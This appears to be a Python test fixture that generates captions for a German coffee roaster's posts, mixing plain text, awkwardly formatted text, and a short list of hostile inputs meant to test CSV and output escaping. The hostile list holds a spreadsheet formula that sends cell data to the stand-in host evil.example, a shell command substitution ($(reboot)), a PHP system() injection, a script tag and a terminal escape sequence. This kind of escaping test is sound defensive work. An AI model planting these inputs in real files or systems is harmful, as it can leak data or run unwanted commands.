"""What the company writes: plain posts, posts with everything CSV fears, and hostile ones."""

PLAIN = [
    "Frisch geröstet: unser Äthiopien Yirgacheffe ist wieder da ☕",
    "Guten Morgen aus der Rösterei",
    "New in the shop: the Morgenrot espresso blend",
    "Samstag ab 10 Uhr: offene Rösterei mit Führung",
    "Heute im Café: Käsekuchen nach Omas Rezept 🍰",
    "Our roaster is 60 years old and still going strong 🔥",
    "Kaffee und Klima: was wir dieses Jahr ändern",
    "Wir suchen Verstärkung für das Team (m/w/d)",
    "Cold Brew in drei Schritten 👇",
    "Danke für 10 Jahre Morgenrot ❤️",
    "Barista-Kurs im Herbst: noch Plätze frei",
    "How we cup coffee on a Tuesday morning",
]

DIFFICULT = [
    "Drei Fragen, drei Antworten:\n\n1. Woher kommt der Kaffee?\n2. Wer röstet?\n"
    "3. Und wann, bitte, gibt es Kuchen?",
    'Unser "Sonntagskaffee" ist zurück, aber nur kurz',
    "Röstgrade im Vergleich: hell, mittel, dunkel;\nwas schmeckt Euch am besten? 🤔",
    'Kundin: "Der beste Flat White der Stadt!"\n\nWir: 😊, danke',
    "Handgepflückt, sonnengetrocknet, schonend geröstet\n\n#kaffee #röstung #morgenrot",
    "Öffnungszeiten an Fronleichnam: 9–13 Uhr, danach „Ruhe“",
    "Family blend 👩‍👩‍👧, single origin, decaf: which one are you?",
]

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Gewinnspiel")',
    "Neu: `reboot` und $(reboot) im Mahlgrad-Test",
    "<script>alert('Kaffee')</script> <b>fett</b> & mehr",
    "'.system('date').' in der Tasse",
    "+4930123456 anrufen und Bohnen sichern",
    "@summe(A1:A9) ist auch nur eine Bestellung",
    "Farbe \x1b[31mrot\x1b[0m aus dem Terminal",
]


def caption(draw, number):
    """Most posts are plain, every fourth is difficult, a few are hostile."""
    if number % 17 == 5:
        return HOSTILE[number // 17 % len(HOSTILE)]
    return draw.pick(DIFFICULT if number % 4 == 1 else PLAIN)
